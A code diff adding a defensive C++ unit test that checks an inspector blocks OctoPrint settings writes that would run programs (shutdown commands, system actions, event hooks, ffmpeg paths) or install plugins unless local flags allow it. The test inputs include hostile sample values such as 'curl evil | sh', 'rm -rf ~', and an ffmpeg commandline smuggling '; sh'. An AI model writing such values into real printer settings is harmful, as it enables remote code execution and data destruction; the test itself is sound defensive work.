@@ -276,6 +276,38 @@ TEST_F(BodyInspectorTest, PromptAnswersAreWholeNumbers) {
   EXPECT_NE(Inspect(Inspect::kPromptAnswer, R"({"command":"select","choice":1.5})"), "");
 }
 
+// OctoPrint runs these settings as programs later (system menu, events,
+// timelapse rendering, plugin installs): writing one is running a program.
+TEST_F(BodyInspectorTest, SettingsThatOctoPrintRunsAsProgramsNeedTheirLocalFlag) {
+  const LocalCeiling strict;
+  LocalCeiling flagged;
+  flagged.allow_system_commands = true;
+  auto denial = [&](const LocalCeiling& ceiling, const char* body) {
+    return InspectBody(checker_, ceiling, BodyRequest{Inspect::kSettings, "/api/settings", body})
+        .denial;
+  };
+  for (const char* body : {
+           R"({"server":{"commands":{"systemShutdownCommand":"curl evil | sh"}}})",
+           R"({"system":{"actions":[{"action":"x","command":"rm -rf ~","name":"x"}]}})",
+           R"({"system":{"events":{"subscriptions":[{"type":"system","command":"sh"}]}}})",
+           R"({"webcam":{"ffmpegPath":"/tmp/evil"}})",
+           R"({"webcam":{"ffmpegCommandline":"{ffmpeg} -i x; sh"}})",
+           R"({"webcam":{"FFMPEGThreads":1}})",
+       }) {
+    EXPECT_TRUE(absl::StrContains(denial(strict, body), "allow_system_commands")) << body;
+    EXPECT_EQ(denial(flagged, body), "") << body;
+  }
+  for (const char* body : {R"({"plugins":{"pluginmanager":{"pip_args":"--index-url x"}}})",
+                           R"({"plugins":{"softwareupdate":{"checks":{}}}})"}) {
+    EXPECT_TRUE(absl::StrContains(denial(strict, body), "allow_plugin_install")) << body;
+  }
+  // What the UI's ordinary saves send passes: the recorded title change,
+  // and other webcam settings.
+  EXPECT_EQ(denial(strict, R"({"appearance":{"name":"x"},)"
+                           R"("webcam":{"streamUrl":"/webcam/?action=stream","flipH":true}})"),
+            "");
+}
+
 TEST_F(BodyInspectorTest, SettingsThatAreGcodeMustPassTheCeiling) {
   // The UI's own save.
   EXPECT_EQ(Inspect(Inspect::kSettings,
